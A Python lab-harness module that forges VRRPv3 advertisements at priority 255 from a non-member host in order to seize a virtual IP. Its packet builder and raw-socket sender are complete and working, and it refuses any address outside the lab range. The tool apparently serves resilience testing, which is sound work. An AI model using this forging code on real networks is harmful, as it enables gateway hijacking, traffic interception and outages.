"""A stranger on the tier's LAN: VRRPv3 adverts sent from an address that is not a member (the
lab host's bridge address), with priority 255, as an attacker would send to take a VIP. Bounded:
`count` packets `interval` s apart, then it stops. Only lab addresses (198.18.0.0/15).

The packet (RFC 5798 section 5.2): version 3, type 1 (advertisement), VRID, priority, one IPv4
address, max advert interval in centiseconds, checksum over an IPv4 pseudo-header and the VRRP
message; sent with IP TTL 255, as receivers require.
"""

from __future__ import annotations

import ipaddress
import socket
import struct
import time

from lab import config

VRRP_PROTOCOL = 112
VRRP_GROUP = "224.0.0.18"


def _checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def advert(src: str, dst: str, vrid: int, priority: int, vip: str, interval_cs: int = 10) -> bytes:
    """A VRRPv3 advertisement for IPv4 from `src` to `dst` (the checksum covers both)."""
    body = struct.pack("!BBBBH", 0x31, vrid, priority, 1, interval_cs & 0x0FFF) + b"\0\0"
    body += ipaddress.IPv4Address(vip).packed
    pseudo = ipaddress.IPv4Address(src).packed + ipaddress.IPv4Address(dst).packed
    pseudo += struct.pack("!BBH", 0, VRRP_PROTOCOL, len(body))
    csum = _checksum(pseudo + body)
    return body[:6] + struct.pack("!H", csum) + body[8:]


def send_adverts(vrid: int, vip: str, priority: int = 255, count: int = 30, interval: float = 0.1) -> int:
    """Send `count` adverts (each to every node and to the VRRP multicast group) from the lab
    host's bridge address; returns how many packets were sent."""
    for addr in [vip, *[n.address for n in config.NODES], config.HOST_ADDR]:
        if ipaddress.ip_address(addr) not in ipaddress.ip_network("198.18.0.0/15"):
            raise ValueError(f"{addr}: not a lab address")
    sent = 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, VRRP_PROTOCOL) as sock:
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 255)
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(config.HOST_ADDR))
        sock.bind((config.HOST_ADDR, 0))
        for _ in range(count):
            for dst in [*[n.address for n in config.NODES], VRRP_GROUP]:
                sock.sendto(advert(config.HOST_ADDR, dst, vrid, priority, vip), (dst, 0))
                sent += 1
            time.sleep(interval)
    return sent
